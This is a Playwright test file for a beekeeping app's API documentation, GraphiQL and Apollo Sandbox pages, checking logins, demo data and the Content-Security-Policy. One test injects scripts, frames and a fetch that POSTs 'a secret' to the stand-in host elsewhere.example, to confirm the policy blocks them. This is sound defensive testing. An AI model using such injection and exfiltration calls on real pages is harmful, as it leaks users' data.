import { mkdirSync } from 'node:fs';
import { dirname } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { Browser, Page, Route } from 'playwright-core';
import { browserPath, NO_BROWSER, type ObservedPage, openPage, startBrowser } from '../support/browser.js';
import { startTestApp, type TestApp } from '../support/client.js';
import { operations } from '../support/openapi.js';
import { beekeeper, PASSWORD } from '../support/world.js';

const withBrowser = browserPath ? describe : describe.skip;
// console.log would add a stack trace to the line.
if (!browserPath) process.stderr.write(`${NO_BROWSER}\n`);

const screenshotPath = (name: string): string =>
  fileURLToPath(new URL(`../../../docs/images/${name}.png`, import.meta.url));
const GRAPHIQL_SCREENSHOT = screenshotPath('graphiql');
/** The Accept header that Chrome sends for a typed address. */
const BROWSER_ACCEPT = 'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8';
const SANDBOX_SCRIPT = 'https://embeddable-sandbox.cdn.apollographql.com';
const SANDBOX_FRAME = 'https://sandbox.embed.apollographql.com';

let browser: Browser;
let empty: TestApp;
let demo: TestApp;
beforeAll(async () => {
  if (browserPath) browser = await startBrowser();
  [empty, demo] = await Promise.all([startTestApp(), startTestApp({ DEMO_DATA: 'on' })]);
});
afterAll(async () => {
  await Promise.all([browser?.close(), empty?.close(), demo?.close()]);
});

/** Opens a page, runs `work` on it, and closes it. */
async function visit(url: string, work: (observed: ObservedPage) => Promise<void>): Promise<void> {
  const observed = await openPage(browser);
  try {
    await observed.page.goto(url);
    await work(observed);
  } finally {
    await observed.context.close();
  }
}

withBrowser('the documentation of /api/v1', () => {
  const operation = (page: Page, id: string) => page.locator(`[id$="-${id}"]`);
  const open = (page: Page, id: string) => operation(page, id).locator('.opblock-summary-control').click();
  const execute = async (page: Page, id: string): Promise<void> => {
    await open(page, id);
    await operation(page, id).getByRole('button', { name: 'Try it out' }).click();
    await operation(page, id).getByRole('button', { name: 'Execute' }).click();
  };
  const waitForResponse = (page: Page, id: string, text: string) =>
    operation(page, id).locator('.live-responses-table').getByText(text).first().waitFor();

  it('shows every operation and executes one as the demo account, without internet', async () => {
    await visit(`${demo.url}/api/v1/docs`, async ({ page, complaints, externalRequests }) => {
      await page.getByRole('heading', { name: 'Beekeeping' }).waitFor();
      expect(await page.locator('.opblock').count()).toBe(operations.length);
      await execute(page, 'listInventory');
      await waitForResponse(page, 'listInventory', 'Láminas de cera');
      expect(complaints).toEqual([]);
      expect(externalRequests).toEqual([]);
      if (process.env.SCREENSHOTS !== '1') return;
      await page.evaluate(`document.querySelector('[id$="-listInventory"]').scrollIntoView()`);
      await page.screenshot({ path: screenshotPath('docs') });
    });
  });

  it('logs in and continues as that account', async () => {
    const ana = await beekeeper(empty);
    await ana.apiary({ name: 'Tras la ermita' });
    await visit(`${empty.url}/api/v1/docs/`, async ({ page, complaints, externalRequests }) => {
      await open(page, 'logIn');
      await operation(page, 'logIn').getByRole('button', { name: 'Try it out' }).click();
      await operation(page, 'logIn')
        .locator('textarea')
        .fill(JSON.stringify({ email: ana.email, password: PASSWORD }));
      await operation(page, 'logIn').getByRole('button', { name: 'Execute' }).click();
      await waitForResponse(page, 'logIn', 'access_token');
      await execute(page, 'listApiaries');
      await waitForResponse(page, 'listApiaries', 'Tras la ermita');
      expect(complaints).toEqual([]);
      expect(externalRequests).toEqual([]);
    });
  });
});

withBrowser('GraphiQL', () => {
  const execute = async (page: Page, operation: string): Promise<void> => {
    await page.getByRole('button', { name: 'Execute query' }).click();
    await page.getByRole('menuitem', { name: operation }).click();
  };
  const fill = async (page: Page, editor: 'Variables' | 'Headers', content: object): Promise<void> => {
    await page.getByRole('button', { name: editor, exact: true }).click();
    await page.locator(`section[aria-label="${editor}"] .graphiql-editor:not(.hidden) .CodeMirror`).click();
    await page.keyboard.press('ControlOrMeta+A');
    await page.keyboard.insertText(JSON.stringify(content));
  };
  const result = (page: Page) => page.locator('section[aria-label="Result Window"] .CodeMirror-code');
  const waitForResult = (page: Page, text: string) => result(page).getByText(text).first().waitFor();

  it('shows the demo apiaries when the query is executed, without internet', async () => {
    await visit(`${demo.url}/graphiql`, async ({ page, complaints, externalRequests }) => {
      await execute(page, 'Apiaries');
      await waitForResult(page, 'El Encinar');
      await waitForResult(page, 'Ladera sur, junto al arroyo');
      await waitForResult(page, 'Presencia barroa');
      await page.getByRole('button', { name: 'Show Documentation Explorer' }).click();
      await page.getByRole('link', { name: 'Mutation' }).waitFor();
      await page.getByRole('button', { name: 'Hide Documentation Explorer' }).click();
      expect(complaints).toEqual([]);
      expect(externalRequests).toEqual([]);
      if (process.env.SCREENSHOTS === '1') await takeScreenshot(page);
    });
  });

  const takeScreenshot = async (page: Page): Promise<void> => {
    await page.getByRole('button', { name: 'Hide editor tools' }).click();
    // Make room for the longest line of the query.
    await page.mouse.move(664, 400);
    await page.mouse.down();
    await page.mouse.move(745, 400);
    await page.mouse.up();
    await page.evaluate('document.activeElement.blur()');
    await page.mouse.move(745, 795);
    mkdirSync(dirname(GRAPHIQL_SCREENSHOT), { recursive: true });
    await page.screenshot({ path: GRAPHIQL_SCREENSHOT });
  };

  it('shows them again after a reload', async () => {
    await visit(`${demo.url}/graphiql`, async ({ page }) => {
      await execute(page, 'Apiaries');
      await waitForResult(page, 'El Encinar');
      await page.reload();
      await execute(page, 'Apiaries');
      await waitForResult(page, 'El Encinar');
    });
  });

  it('lets a beekeeper log in and read their hives, without internet', async () => {
    const ana = await beekeeper(empty);
    const apiary = await ana.apiary({ name: 'Tras la ermita', location: 'Camino viejo, 3' });
    await ana.beehive(apiary, { beehiveNumber: 17, healthStatus: 'Enfermedad', observations: 'Cría salteada' });

    await visit(`${empty.url}/graphiql`, async ({ page, complaints, externalRequests }) => {
      await execute(page, 'Apiaries');
      await waitForResult(page, 'UNAUTHENTICATED');
      // The browser itself logs a response of 401.
      expect(complaints.splice(0)).toEqual([expect.stringContaining('401')]);

      await fill(page, 'Variables', { email: ana.email, password: PASSWORD });
      await execute(page, 'LogIn');
      await waitForResult(page, 'accessToken');
      const [token] = /ey[\w-]+\.[\w-]+\.[\w-]+/.exec(await result(page).innerText()) ?? [];
      await fill(page, 'Headers', { Authorization: `Bearer ${token}` });
      await execute(page, 'Apiaries');
      await waitForResult(page, 'Tras la ermita');
      await waitForResult(page, 'Camino viejo, 3');
      await waitForResult(page, '17');
      await waitForResult(page, 'Cría salteada');
      expect(complaints).toEqual([]);
      expect(externalRequests).toEqual([]);
    });
  });
});

withBrowser('the Sandbox', () => {
  /** A reduced version of Apollo's script with what the policy must permit: a frame, a font, and the initial operation. */
  const SCRIPT = `window.EmbeddedSandbox = class {
    constructor({ target, initialEndpoint, initialState }) {
      const frame = document.createElement('iframe');
      frame.src = '${SANDBOX_FRAME}/sandbox/explorer';
      document.querySelector(target).append(frame);
      document.fonts.load('16px Sandbox').catch(() => {});
      const { document: query, headers } = initialState;
      window.response = fetch(initialEndpoint, {
        method: 'POST',
        headers: { 'content-type': 'application/json', ...headers },
        body: JSON.stringify({ query, operationName: 'Apiaries' }),
      }).then((response) => response.json());
    }
  };`;
  const FONT = `@font-face { font-family: Sandbox; src: url(https://fonts.gstatic.com/s/sandbox.woff2) }`;

  /** Simulates an internet where every URL exists and CORS allows everything, so that only the page's policy can refuse a request. */
  const internet = (requestedOrigins: string[]) => async (route: Route) => {
    const url = new URL(route.request().url());
    if (url.hostname === '127.0.0.1') return route.continue();
    requestedOrigins.push(url.origin);
    const body = url.origin === SANDBOX_SCRIPT ? SCRIPT : url.hostname === 'fonts.googleapis.com' ? FONT : '';
    const kinds: Record<string, string> = { script: 'text/javascript', stylesheet: 'text/css', document: 'text/html' };
    const contentType = kinds[route.request().resourceType()] ?? 'application/octet-stream';
    return route.fulfill({ body, contentType, headers: { 'access-control-allow-origin': '*' } });
  };

  const visitSandbox = async (
    work: (observed: ObservedPage, requestedOrigins: string[]) => Promise<void>,
  ): Promise<void> => {
    const observed = await openPage(browser);
    const requestedOrigins: string[] = [];
    try {
      await observed.context.route('**', internet(requestedOrigins));
      await observed.page.goto(`${demo.url}/graphql`, { waitUntil: 'load' });
      await work(observed, requestedOrigins);
    } finally {
      await observed.context.close();
    }
  };
  const cspViolations = (complaints: string[]) => complaints.filter((text) => text.startsWith('CSP: ')).sort();

  it('may load its parts, and opens with an operation that returns the demo data', async () => {
    await visitSandbox(async ({ page, complaints }, requestedOrigins) => {
      const { data } = await page.evaluate<{ data: { apiaries: { nodes: { name: string }[] } } }>('window.response');
      expect(data.apiaries.nodes.map(({ name }) => name)).toEqual(['El Encinar', 'La Vega', 'Orchard Hill']);
      await page.evaluate('document.fonts.ready.then(() => {})');
      expect(requestedOrigins).toEqual(
        expect.arrayContaining([
          SANDBOX_SCRIPT,
          SANDBOX_FRAME,
          'https://fonts.googleapis.com',
          'https://fonts.gstatic.com',
        ]),
      );
      expect(page.frames().map((frame) => new URL(frame.url()).origin)).toEqual([demo.url, SANDBOX_FRAME]);
      expect(cspViolations(complaints)).toEqual([]);
    });
  });

  it('may load nothing else', async () => {
    await visitSandbox(async ({ page, complaints }, requestedOrigins) => {
      await page.evaluate(`(async () => {
        const add = (tag, attributes) => document.body.append(Object.assign(document.createElement(tag), attributes));
        add('script', { src: 'https://elsewhere.example/script.js' });
        add('script', { textContent: 'window.intruder = true' });
        add('iframe', { src: 'https://elsewhere.example/frame' });
        add('img', { src: 'https://elsewhere.example/picture.png' });
        add('link', { rel: 'stylesheet', href: 'https://elsewhere.example/style.css' });
        add('base', { href: 'https://elsewhere.example/' });
        await fetch('https://elsewhere.example/', { method: 'POST', body: 'a secret' }).catch(() => {});
      })()`);
      const from = 'https://elsewhere.example';
      const expected = [
        `CSP: base-uri ${from}/`,
        `CSP: connect-src ${from}/`,
        `CSP: frame-src ${from}`,
        `CSP: img-src ${from}/picture.png`,
        `CSP: script-src-elem ${from}/script.js`,
        'CSP: script-src-elem inline',
        `CSP: style-src-elem ${from}/style.css`,
      ];
      // Some violations are reported twice: by the policy in the header and by that in Apollo's <meta>.
      const reported = () => [...new Set(cspViolations(complaints))];
      const waitForMore = () => page.waitForEvent('console').catch(() => undefined);
      while (reported().length < expected.length && (await waitForMore()));
      expect(reported()).toEqual(expected);
      expect(requestedOrigins).not.toContain('https://elsewhere.example');
      expect(await page.evaluate('window.intruder')).toBeUndefined();
    });
  });
});

describe('LANDING_PAGE', () => {
  const get = (app: TestApp, path: string) =>
    fetch(`${app.url}${path}`, { headers: { accept: BROWSER_ACCEPT }, redirect: 'manual' });

  const withSettings = async (settings: Record<string, string>, work: (app: TestApp) => Promise<void>) => {
    const app = await startTestApp(settings, empty.database);
    try {
      await work(app);
    } finally {
      await app.close();
    }
  };

  it('sandbox: serves a page at /graphql to browsers and redirects / to it', async () => {
    const page = await get(empty, '/graphql');
    expect(page.headers.get('content-type')).toMatch('text/html');
    expect(await page.text()).toContain('EmbeddedSandbox');
    const start = await get(empty, '/');
    expect([start.status, start.headers.get('location')]).toEqual([302, '/graphql']);
  });

  it('graphiql: redirects browsers from / and /graphql to /graphiql, and still serves GraphQL', async () => {
    await withSettings({ LANDING_PAGE: 'graphiql' }, async (app) => {
      for (const [path, location] of [
        ['/', '/graphql'],
        ['/graphql', '/graphiql'],
      ] as const) {
        const { status, headers } = await get(app, path);
        expect([status, headers.get('location')]).toEqual([302, location]);
      }
      const page = await get(app, '/graphiql');
      expect([page.status, await page.text()]).toEqual([200, expect.stringContaining('id="graphiql"')]);
      expect((await app.anyone.graphql('{ __typename }')).data).toEqual({ __typename: 'Query' });
    });
  });

  it('off: serves no pages, only JSON, and still serves GraphQL', async () => {
    await withSettings({ LANDING_PAGE: 'off' }, async (app) => {
      for (const [path, status] of [
        ['/', 404],
        ['/graphiql', 404],
        ['/graphiql/start.js', 404],
        ['/graphql', 400],
      ] as const) {
        const answer = await get(app, path);
        expect([path, answer.status]).toEqual([path, status]);
        expect(answer.headers.get('content-type')).toMatch(/^application\/json/);
        const body = (await answer.json()) as { message?: string; errors?: { message: string }[] };
        expect(body.message ?? body.errors?.[0]?.message).toMatch(/\w/);
      }
      expect((await app.anyone.graphql('{ __typename }')).data).toEqual({ __typename: 'Query' });
    });
  });

  it('INTROSPECTION=off hides the schema, also in the error for a misspelt field', async () => {
    const [introspect, misspell] = ['{ __schema { types { name } } }', '{ apiariez { nodes { name } } }'];
    expect((await empty.anyone.graphql(introspect)).data.__schema.types).toContainEqual({ name: 'Apiary' });
    expect((await empty.anyone.graphql(misspell)).errors?.[0]?.message).toMatch('Did you mean "apiaries"');
    await withSettings({ INTROSPECTION: 'off' }, async (app) => {
      const refused = await app.anyone.graphql(introspect);
      expect([refused.status, refused.data]).toEqual([400, undefined]);
      expect(refused.errors?.[0]?.message).toMatch(/introspection is not allowed/i);
      expect((await app.anyone.graphql(misspell)).errors?.[0]?.message).not.toMatch('apiaries');
    });
  });
});
